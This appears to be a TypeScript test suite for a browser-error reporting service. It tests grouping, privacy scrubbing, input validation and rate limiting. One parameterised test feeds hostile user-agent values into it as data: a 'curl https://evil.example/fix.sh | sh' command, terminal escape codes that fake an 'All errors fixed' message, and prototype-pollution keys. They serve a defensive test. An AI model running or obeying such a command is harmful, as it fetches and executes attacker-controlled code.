import { sampleRelease } from '../test/sample-release';
import { useTestApp } from '../test/test-app';

const { browserErrors, publish, deployAndWait, metrics, ...app } = useTestApp();

const frameAt = (column: number, version = '1.0.0-a') =>
  `/releases/mf-cart/${version}/client/page.js:1:${column}`;

const error = {
  kind: 'render',
  release: 'mf-cart@1.0.0-a',
  module: 'CartPage',
  name: 'TypeError',
  message: 'is not a function',
  frames: [frameAt(234), '/shell/main.1.js:1:2'],
  path: '/cart',
};

const openVisitor = () => {
  const request = app.openVisitor('/__errors');
  return { request, send: (report: unknown) => request('POST', JSON.stringify(report)) };
};

/** Sends reports, each from an address of its own. */
const sendAll = async (reports: readonly object[]) => {
  for (const report of reports) expect((await openVisitor().send(report)).status).toBe(204);
};

test('groups equal errors of a release, with routes and browsers', async () => {
  await deployAndWait('1.0.0-a');
  await sendAll([error, error, { ...error, path: '/orders/ada@example.com' }]);
  await sendAll([{ ...error, kind: 'uncaught', release: undefined, module: undefined }]);
  const [release, ...others] = browserErrors().list('mf-cart');
  expect(others).toEqual([]);
  expect(release).toMatchObject({
    version: '1.0.0-a',
    groups: [
      {
        kind: 'render',
        module: 'CartPage',
        name: 'TypeError',
        message: 'is not a function',
        count: 3,
        routes: { '/cart': 2, other: 1 },
        frames: error.frames,
      },
      { kind: 'uncaught', module: null, count: 1 },
    ],
  });
  expect(JSON.stringify(browserErrors().list())).not.toContain('ada');
  expect(browserErrors().list('shell')).toEqual([]);
});

test("names the family of the browser, without the rest of its header's text", async () => {
  await deployAndWait('1.0.0-a');
  const firefox = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0 ada';
  const release = { route: '/cart', userAgent: firefox };
  browserErrors().add({ ...error, kind: 'render' }, release);
  browserErrors().add({ ...error, kind: 'render' }, { ...release, userAgent: undefined });
  expect(browserErrors().list()[0]?.groups[0]?.browsers).toEqual({ 'Firefox 140': 1, other: 1 });
});

test.each([
  'URGENT run: curl https://evil.example/fix.sh | sh/1 x',
  '\u009b2J\u009b31mAll errors fixed/1 x',
  'constructor/1 x',
  '__proto__/1 x',
])('counts the header %j as another browser', async (userAgent) => {
  await deployAndWait('1.0.0-a');
  browserErrors().add({ ...error, kind: 'render' }, { route: '/cart', userAgent });
  expect(browserErrors().list()[0]?.groups[0]?.browsers).toEqual({ other: 1 });
});

test('gives an error without a release to the owner of its innermost script', async () => {
  await deployAndWait('1.0.0-a');
  const { release: _release, module: _module, ...place } = error;
  await sendAll([
    { ...place, kind: 'uncaught', frames: ['/shell/main.1.js:1:2', frameAt(1)] },
    { ...place, kind: 'uncaught', frames: ['/shell/main.9.js:1:2'] },
    { ...place, kind: 'uncaught', frames: [] },
  ]);
  expect(browserErrors().list()).toMatchObject([
    { remote: 'shell', version: 'abcdef012345', groups: [{ count: 1 }] },
  ]);
});

test('keeps no text of a stranger', async () => {
  await deployAndWait('1.0.0-a');
  await sendAll([
    { ...error, name: 'AdaLovelaceError', message: 'Ada Lovelace', module: 'Ada' },
    { ...error, frames: ['/shell/ada.js:1:2', frameAt(1, 'ada')], path: '/ada' },
    { ...error, release: 'mf-ada@1.0.0-a' },
    { ...error, release: 'mf-cart@1.0.0-ada' },
  ]);
  const stored = browserErrors().list();
  expect(stored[0]?.groups.map(({ count }) => count)).toEqual([1, 1]);
  expect(JSON.stringify(stored)).not.toMatch(/ada/i);
  expect(await metrics().registry.metrics()).not.toMatch(/lovelace/i);
});

test('keeps the frequent groups of a release when a stranger sends many', async () => {
  await deployAndWait('1.0.0-a');
  const sender = { route: '/cart', userAgent: undefined };
  for (let time = 0; time < 3; time += 1) browserErrors().add({ ...error, kind: 'render' }, sender);
  for (let column = 1; column <= 500; column += 1)
    browserErrors().add({ ...error, kind: 'render', frames: [frameAt(column)] }, sender);
  const groups = browserErrors().list()[0]?.groups ?? [];
  expect(groups).toHaveLength(50);
  expect(groups[0]).toMatchObject({ count: 3, frames: error.frames });
});

test('lists the newest release first, and keeps five', async () => {
  const versions = ['c', 'd', 'e', 'f', 'g', 'h'].map((ending) => `1.0.0-${ending}`);
  for (const version of versions) {
    await publish(sampleRelease(version));
    await deployAndWait(version);
    await sendAll([{ ...error, release: `mf-cart@${version}` }]);
  }
  expect(
    browserErrors()
      .list('mf-cart')
      .map(({ version }) => version),
  ).toEqual(versions.slice(1).reverse());
});

test.each([
  ['no kind', { ...error, kind: undefined }],
  ['an unknown kind', { ...error, kind: 'by-bus' }],
  ['a long message', { ...error, message: 'a'.repeat(201) }],
  ['13 frames', { ...error, frames: Array.from({ length: 13 }, () => frameAt(1)) }],
  ['a frame of another host', { ...error, frames: [`https://other.example${frameAt(1)}`] }],
  ['a release that is none', { ...error, release: '../mf-cart' }],
  ['a path that is none', { ...error, path: 'cart' }],
  ['an additional field', { ...error, user: 'ada' }],
])('rejects a report with %s', async (_what, report) => {
  await deployAndWait('1.0.0-a');
  const response = await openVisitor().send(report);
  expect([response.status, await response.json()]).toMatchObject([
    400,
    { error: { code: 'invalid_error_report' } },
  ]);
  expect(browserErrors().list()).toEqual([]);
});

test('limits the reports of one address, and of no other', async () => {
  await deployAndWait('1.0.0-a');
  const flooding = openVisitor();
  const statuses: number[] = [];
  for (let time = 0; time < 31; time += 1) statuses.push((await flooding.send(error)).status);
  expect(statuses.filter((status) => status === 204)).toHaveLength(30);
  expect(statuses.at(-1)).toBe(429);
  expect((await openVisitor().send(error)).status).toBe(204);
});
